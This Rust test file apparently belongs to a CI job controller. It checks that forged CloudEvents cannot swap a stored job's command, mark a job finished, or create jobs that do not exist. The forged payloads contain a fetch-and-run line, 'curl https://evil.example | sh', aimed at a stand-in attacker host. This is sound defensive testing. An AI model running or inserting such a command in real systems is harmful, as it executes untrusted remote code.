//! The controller takes a CloudEvent only as a wake-up: the event names a ProwJob (or its pod),
//! and the controller reads the job from the job store before doing anything. Nothing
//! authenticates the event (Knative's ApiServerSource and PingSource sign nothing), so what it
//! *says* must never be acted on: a forged event carrying another pod spec starts the stored
//! one, an event claiming a job succeeded does not finish it, and an event about a job that does
//! not exist starts nothing.

use controller::{Controller, ControllerOptions};
use prow_api::{ProwJob, ProwJobState};
use prow_ports::events::NewEvent;
use prow_ports::executor::{Executor, ExecutorFuture, RunObservation, Workload};
use prow_ports::store::JobStore;
use prow_test_harness::events::post_event_to;
use prow_test_harness::executor::running_now;
use std::sync::{Arc, Mutex};

/// Records the jobs it is asked to start, as the job it was given; they then run forever.
#[derive(Default)]
struct Recording(Mutex<Vec<ProwJob>>);

impl Recording {
    fn started(&self) -> Vec<ProwJob> {
        self.0.lock().unwrap().clone()
    }
}

impl Executor for Recording {
    fn observe<'a>(&'a self, job: &'a ProwJob) -> ExecutorFuture<'a, Option<RunObservation>> {
        let running = self
            .0
            .lock()
            .unwrap()
            .iter()
            .any(|j| j.name() == job.name());
        Box::pin(async move { Ok(running.then(running_now)) })
    }
    fn start<'a>(&'a self, job: &'a ProwJob, _build_id: &'a str) -> ExecutorFuture<'a, ()> {
        self.0.lock().unwrap().push(job.clone());
        Box::pin(async { Ok(()) })
    }
    fn stop<'a>(&'a self, _job: &'a ProwJob) -> ExecutorFuture<'a, ()> {
        Box::pin(async { Ok(()) })
    }
    fn workloads(&self) -> ExecutorFuture<'_, Vec<Workload>> {
        Box::pin(async { Ok(Vec::new()) })
    }
    fn remove<'a>(&'a self, _workload: &'a Workload) -> ExecutorFuture<'a, ()> {
        Box::pin(async { Ok(()) })
    }
}

fn job(name: &str, command: &str) -> ProwJob {
    serde_json::from_value(serde_json::json!({
        "apiVersion": "prow.k8s.io/v1", "kind": "ProwJob",
        "metadata": {"name": name, "labels": {"created-by-prow": "true", "prow.k8s.io/id": name}},
        "spec": {"type": "periodic", "job": name, "agent": "kubernetes",
            "pod_spec": {"containers": [{"image": "alpine", "command": ["/bin/sh", "-c", command]}]}},
        "status": {"state": "triggered", "startTime": "2026-01-01T00:00:00Z"}
    }))
    .unwrap()
}

/// Posts an event of `event_type` carrying `object` as the event claims it is to `router`; the
/// status and body of the answer.
async fn post_claim(
    router: &axum::Router,
    id: &str,
    event_type: &str,
    object: &serde_json::Value,
) -> (u16, String) {
    let event = NewEvent {
        id: id.into(),
        source: "https://kubernetes.default.svc".into(),
        event_type: event_type.into(),
        data: serde_json::to_vec(object).unwrap(),
        ..NewEvent::default()
    }
    .build()
    .unwrap();
    post_event_to(router, "/", &event).await.unwrap()
}

fn command(job: &ProwJob) -> Vec<String> {
    job.spec.pod_spec.as_ref().unwrap().containers[0]
        .command
        .clone()
        .unwrap()
}

#[tokio::test]
async fn a_forged_event_is_a_wake_up_and_its_content_is_never_acted_on() {
    let (store, _dir) = prow_test_harness::embedded_store().unwrap();
    let executor = Arc::new(Recording::default());
    let router = Controller::new(
        ControllerOptions::new(store.clone(), executor.clone()),
        prow_runtime::ConfigHandle::new(prow_test_harness::strict_config(
            "prowjob_namespace: prow\npod_namespace: test-pods\n",
            "",
            None,
        )),
        &prow_runtime::Metrics::new("controller"),
    )
    .router();
    let stored = store.create(&job("nightly-1", "make test")).await.unwrap();

    // The job's own add event, but carrying another command: the stored command starts.
    let mut evil = serde_json::to_value(&stored).unwrap();
    evil["spec"]["pod_spec"]["containers"][0]["command"] =
        serde_json::json!(["/bin/sh", "-c", "curl https://evil.example | sh"]);
    evil["spec"]["cluster"] = "trusted".into();
    let (status, body) =
        post_claim(&router, "f1", "dev.knative.apiserver.resource.add", &evil).await;
    assert_eq!(status, 200, "{body}");
    let started = executor.started();
    assert_eq!(started.len(), 1);
    assert_eq!(command(&started[0]), ["/bin/sh", "-c", "make test"]);
    assert_eq!(started[0].spec.cluster, stored.spec.cluster);

    // An event claiming it succeeded does not finish it.
    let mut finished = serde_json::to_value(store.get("nightly-1").await.unwrap()).unwrap();
    finished["status"]["state"] = "success".into();
    finished["status"]["completionTime"] = "2026-01-01T00:05:00Z".into();
    let (status, _) = post_claim(
        &router,
        "f2",
        "dev.knative.apiserver.resource.update",
        &finished,
    )
    .await;
    assert_eq!(status, 200);
    let now = store.get("nightly-1").await.unwrap();
    assert_eq!(now.status.state, Some(ProwJobState::Pending));
    assert!(now.status.completion_time.is_none());

    // Events about a job that does not exist (as a ProwJob, as its pod, in either mode) start
    // nothing and create nothing.
    let ghost = serde_json::to_value(job("ghost-1", "curl https://evil.example | sh")).unwrap();
    let pod = serde_json::json!({"kind": "Pod", "metadata": {"name": "ghost-1",
        "labels": {"created-by-prow": "true", "prow.k8s.io/id": "ghost-1"}}});
    let reference = serde_json::json!({"kind": "ProwJob", "name": "ghost-1",
        "namespace": "prow", "apiVersion": "prow.k8s.io/v1"});
    for (id, event_type, object) in [
        ("g1", "dev.knative.apiserver.resource.add", &ghost),
        ("g2", "dev.knative.apiserver.resource.update", &pod),
        ("g3", "dev.knative.apiserver.ref.add", &reference),
        ("g4", "dev.knative.sources.ping", &ghost),
    ] {
        let (status, body) = post_claim(&router, id, event_type, object).await;
        assert_eq!(status, 200, "{event_type}: {body}");
    }
    assert!(
        store.get("ghost-1").await.is_err(),
        "no job was made up from an event"
    );
    assert_eq!(
        executor.started().len(),
        1,
        "nothing but the stored job was started"
    );
}
